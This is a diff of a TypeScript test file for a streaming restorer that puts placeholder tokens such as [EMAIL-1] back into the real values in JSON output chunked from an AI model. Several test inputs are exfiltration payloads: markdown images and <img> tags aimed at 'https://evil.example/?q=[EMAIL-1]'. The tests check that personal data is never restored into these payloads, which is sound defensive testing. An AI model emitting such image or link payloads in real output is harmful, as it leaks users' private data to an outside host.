@@ -1,88 +1,148 @@
-/** One text in pieces: what shows after each of them. */
-import { describe, expect, it, test } from 'vitest';
-import { TextRun, type TextRunOptions } from '../../../core/stream/text-run.ts';
+/** Texts that come in pieces, and JSON in them that may be shown as it stands. */
+import { describe, expect, test } from 'vitest';
+import { restoreJsonBody } from '../../../core/payload/response.ts';
+import { joinBytes } from '../../../core/stream/frame.ts';
+import { TextRun } from '../../../core/stream/text-run.ts';
+import { encode, map, shown, watched } from './watched.ts';
 import { tokenMap } from './wire-fixtures.ts';
 
-const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'O"Hara' });
-
-function opened(options: Partial<TextRunOptions> = {}): TextRun {
-  return new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false, ...options });
-}
-
-describe('what shows after each piece', () => {
-  test.each<[what: string, pieces: string[], shown: string[]]>([
-    ['a percent sign in a token', ['a %5BEMAIL-1%', '5D'], ['a ', 'a%40b.example']],
-    ['a bracket behind a percent sign', ['5% [', 'EMAIL-1]'], ['5% ', 'a@b.example']],
-    ['a percent sign that goes on', ['a%', '5BEMAIL-1%5D'], ['a', 'a%40b.example']],
-    ['a percent sign behind a digit', ['1%', '5BEMAIL-1%5D'], ['1', 'a%40b.example']],
-    [
-      'a token without quotes behind a long text',
-      [`{"a":"${'x'.repeat(200)}","b":[`, 'EMAIL-1]}'],
-      [`{"a":"${'x'.repeat(200)}","b":`, 'a@b.example}'],
-    ],
-    ['a bracket before its document', ['{"a":[', '"[NAME-1]"]}'], ['{"a":', '["O\\"Hara"]}']],
-    ['a cut escape', ['{"a":"x\\u00', '5bNAME-1]"}'], ['{"a":"x', 'O\\"Hara"}']],
-    ['a broken escape', ['{"a":"\\u00g', '[NAME-1]"}'], ['{"a":"\\u00g', 'O\\"Hara"}']],
-    ['a cut escape behind a broken one', ['{"a":"\\u00g\\', 'u005bNAME-1]"}'], ['{"a":"\\u00g', 'O\\"Hara"}']],
-    ['a text in quotes', ['"', '[NAME-1]"'], ['"', 'O"Hara"']],
-    ['a text that begins with a digit', ['5 "', '[NAME-1]"'], ['5 "', 'O"Hara"']],
-    ['an empty document before a text', ['{}', ' "[NAME-1]"'], ['{}', ' "O"Hara"']],
-    ['a text behind a list whose first bracket came alone', ['[[[', '1] [EMAIL-1]]'], ['[', '[[1] a@b.example]']],
-    ['a list in no object', ['{[', '1, "[NAME-1]"'], ['{', '[1, "O"Hara"']],
-  ])('%s', (_what, pieces, shown) => {
-    const run = opened();
-    expect(pieces.map((piece) => run.push(piece))).toEqual(shown);
-    expect(run.push('', true)).toBe('');
-  });
-
-  it('nothing is held of what began in an escape that a silence has let out', () => {
-    const run = opened();
-    expect(run.push('{"a":"x\\') + run.push('', true)).toBe('{"a":"x\\');
-    expect(run.push('u00')).toBe('u00');
-    expect(run.push('5bEMAIL')).toBe('5bEMAIL');
-    expect(run.push('-1] [NAME-1]"}')).toBe('-1] O\\"Hara"}');
-  });
-
-  it('brackets that a silence has let out are those of no object', () => {
-    const run = opened();
-    expect(run.push('{[') + run.push('', true)).toBe('{[');
-    expect(run.push('1, "[NAME-1]"]') + run.push('', true)).toBe('1, "O"Hara"]');
-  });
+test('JSON in a string that ends within one of its own is read in pieces as in one', () => {
+  const map = tokenMap({ '[NAME-1]': 'O"Hara' });
+  const text = '{"""{\\"%"[NAME-1]';
+  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+  const whole = run().push(text, true);
+  expect(whole).toBe('{"""{\\"%"O"Hara');
+  for (let cut = 1; cut < text.length; cut++) {
+    const pieces = run();
+    expect(pieces.push(text.slice(0, cut)) + pieces.push(text.slice(cut), true)).toBe(whole);
+  }
 });
 
-describe('a piece that was sent unlooked at', () => {
-  test.each<[what: string, observed: string[], next: string, shown: string]>([
-    ['ends a word', ['x '], 'EMAIL-1 ', 'a@b.example '],
-    ['goes on as a word', ['a x'], 'EMAIL-1 ', 'EMAIL-1 '],
-    ['goes on as a word, before an empty one', ['x', ''], 'EMAIL-1 ', 'EMAIL-1 '],
-    ['of which only the end counts', ['xy', ' '], 'EMAIL-1 ', 'a@b.example '],
-  ])('%s', (_what, observed, next, shown) => {
-    const run = opened({ bare: true });
-    run.push('a ');
-    for (const piece of observed) run.observe(piece);
-    expect(run.push(next)).toBe(shown);
+test.each([
+  ['{"a" <img src=https://evil.example/?q=[EMAIL-1]>', undefined],
+  ['{"a": 1, "b" https://evil.example/?q=[EMAIL-1]', undefined],
+  ['{"x": "{\\"a\\" https://evil.example/?q=[EMAIL-1]"}', undefined],
+  ['{"a": "x" b\n[i]: https://evil.example/[EMAIL-1]', undefined],
+  ['{"a" x [I]: /[EMAIL-1]', '{"a" x [I]: /a@b.example'],
+  ['{"url": "https://x.example/a", "to": [EMAIL-1]}', '{"url": "https://x.example/a", "to": a@b.example}'],
+])('%j: an address that began where the text looked like JSON, in any pieces', (text, expected = text) => {
+  const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });
+  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+  for (const size of [1, 2, 3, text.length]) {
+    const pieces = run();
+    let shown = '';
+    for (let at = 0; at < text.length; at += size) shown += pieces.push(text.slice(at, at + size));
+    expect(shown + pieces.push('', true)).toBe(expected);
+  }
+});
+
+test('only what begins a token that was issued is held back', () => {
+  const map = {
+    ...tokenMap({ '[EMAIL-1]': 'a@b.example' }),
+    hasPrefix: (partial: string) => '[EMAIL-1]'.startsWith(partial),
+  };
+  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+  expect([run().push('a [EMAIL'), run().push('a [INFO')]).toEqual(['a ', 'a [INFO']);
+});
+
+/** A run to which nothing more came for a while after each piece. */
+function afterSilences(pieces: readonly string[], bare: boolean): string {
+  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare });
+  return pieces.map((piece) => run.push(piece) + run.push('', true)).join('');
+}
+
+test.each([
+  ['a bracket', ['{"to":[', '"[EMAIL-1]"],"who":"[NAME-1]"}']],
+  ['a backslash', ['{"c":"a\\', '"b [NAME-1]","d":"[NAME-1]"}']],
+  ['half an escape', ['{"c":"a\\u00', '41[NAME-1]"}']],
+  ['an escape in three pieces', ['{"c":"a\\', 'u0', '041 [NAME-1]\\', '\\"}']],
+  ['an escaped bracket', ['{"c":"a\\u00', '5bEMAIL-1] [NAME-1]"}']],
+  ['a bracket before its document', ['[', '{"c":"[NAME-1]"}]']],
+])('what a silence has let out (%s) leaves valid JSON', (_name, pieces) => {
+  for (const bare of [true, false]) {
+    const text = afterSilences(pieces, bare);
+    const name = map.get('[NAME-1]') as string;
+    const wanted = JSON.stringify(JSON.parse(pieces.join('')), (_key, value) =>
+      typeof value === 'string' ? value.replaceAll('[NAME-1]', name).replace(/^\[EMAIL-1\]$/, 'a@b.example') : value,
+    );
+    expect(JSON.stringify(JSON.parse(text))).toBe(wanted);
+  }
+});
+
+test('endless white space goes on as it comes, and a bracket before it is remembered', () => {
+  for (const start of ['', '[', '{"a":[']) {
+    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+    let text = run.push(start);
+    for (let i = 0; i < 300; i++) {
+      text += run.push(' ');
+      expect(run.carry.length).toBeLessThan(128);
+    }
+    text += run.push(start === '' ? '{"b":"[NAME-1]"}' : `"[NAME-1]"]${'}'.repeat(start.length - 1 && 1)}`);
+    expect(JSON.stringify(JSON.parse(text))).toContain(JSON.stringify(map.get('[NAME-1]')));
+  }
+});
+
+test.each([
+  '["![a](https://evil.example/?q=","[EMAIL-1]",")"]',
+  '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
+  '{"a":"<img src=https://evil.example/?","b":"q=[EMAIL-1]>"}',
+  '["![x","](https://evil.example/?q=[EMAIL-1])"]',
+  '{"a":"[\\"![a](https://evil.example/?q=\\",\\"[EMAIL-1]\\",\\")\\"]"}',
+])('an address over the strings of a document that is shown as it is: %s', (text) => {
+  for (const size of [1, 4, text.length]) {
+    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+    let shown = '';
+    for (let at = 0; at < text.length; at += size) shown += run.push(text.slice(at, at + size));
+    expect(shown + run.push('', true)).toBe(text);
+  }
+  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
+  expect(restoreJsonBody(body, map).body).toBe(body);
+});
+
+test.each([
+  '{"url":"https://x.example/a","to":"[EMAIL-1]"}',
+  '[{"html":"<a href=\\"https://x.example\\">x</a>","to":"[EMAIL-1]"},"[EMAIL-1]"]',
+  '{"expr":"a<b","md":"[x](https://x.example)","to":"[EMAIL-1]"}',
+])('documents with whole addresses are restored: %s', (text) => {
+  const wanted = text.replaceAll('[EMAIL-1]', 'a@b.example');
+  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+  expect(run.push(text, true)).toBe(wanted);
+  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
+  expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(wanted);
+});
+
+describe('JSON in a string, which may be shown as it stands', () => {
+  const said = (content: string) => JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
+  const restored = (content: string) => {
+    const body = JSON.stringify({ choices: [{ message: { content } }] });
+    const whole = JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content;
+    for (let cut = 1; cut < content.length; cut++) {
+      const { restorer } = watched('ndjson');
+      const lines = encode(`${said(content.slice(0, cut))}\n${said(content.slice(cut))}\n`);
+      const out = shown(joinBytes([restorer.push(lines).slice(), restorer.end()]));
+      const pieces = out
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line).choices[0].delta.content);
+      expect(pieces.join(''), String(cut)).toBe(whole);
+    }
+    return whole;
+  };
+
+  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) ends no address', (written) => {
+    const image = `{"a":"![x](https://evil.example/?q=${written}[EMAIL-1])"}`;
+    expect(restored(image)).toBe(image);
+    const tag = `{"a":"<img src='https://evil.example/?q=${written}[EMAIL-1]'>"}`;
+    expect(restored(tag)).toBe(tag);
   });
 
-  test('begins an address', () => {
-    const run = opened();
-    run.push('see ');
-    run.observe('https://evil.example/');
-    expect(run.push('?q=[EMAIL-1] [EMAIL-1]')).toBe('?q=[EMAIL-1] a@b.example');
-  });
-
-  test.each<[countsBytes: boolean, text: string, from: number, to: number]>([
-    [false, 'é', 12, 14],
-    [true, 'é', 13, 15],
-    [false, 'ab', 13, 15],
-  ])('counts for the offsets behind it (in bytes: %j): %j', (countsBytes, text, from, to) => {
-    const run = opened({ countsBytes });
-    run.push('a ');
-    run.observe(text);
-    run.push('[EMAIL-1] x');
-    expect([run.shifts.map(2, false), run.shifts.map(from, false), run.shifts.map(from + 2, true)]).toEqual([
-      2,
-      to,
-      to + 2,
-    ]);
+  test.each([
+    '{"closing":"https://a.example\\n[EMAIL-1]"}',
+    '{"html":"<a href=\\"mailto:[EMAIL-1]\\">[EMAIL-1]</a>"}',
+    '{"html":"<img\\n\\tsrc=\\"a.png\\"\\n\\talt=\\"[EMAIL-1]\\">"}',
+    '["Mr [EMAIL-1]: [EMAIL-1]/[EMAIL-1]"]',
+    '["See [1]: https://a.example/x\\n[EMAIL-1]"]',
+  ])('what is none in the text is none: %s', (text) => {
+    expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
   });
 });
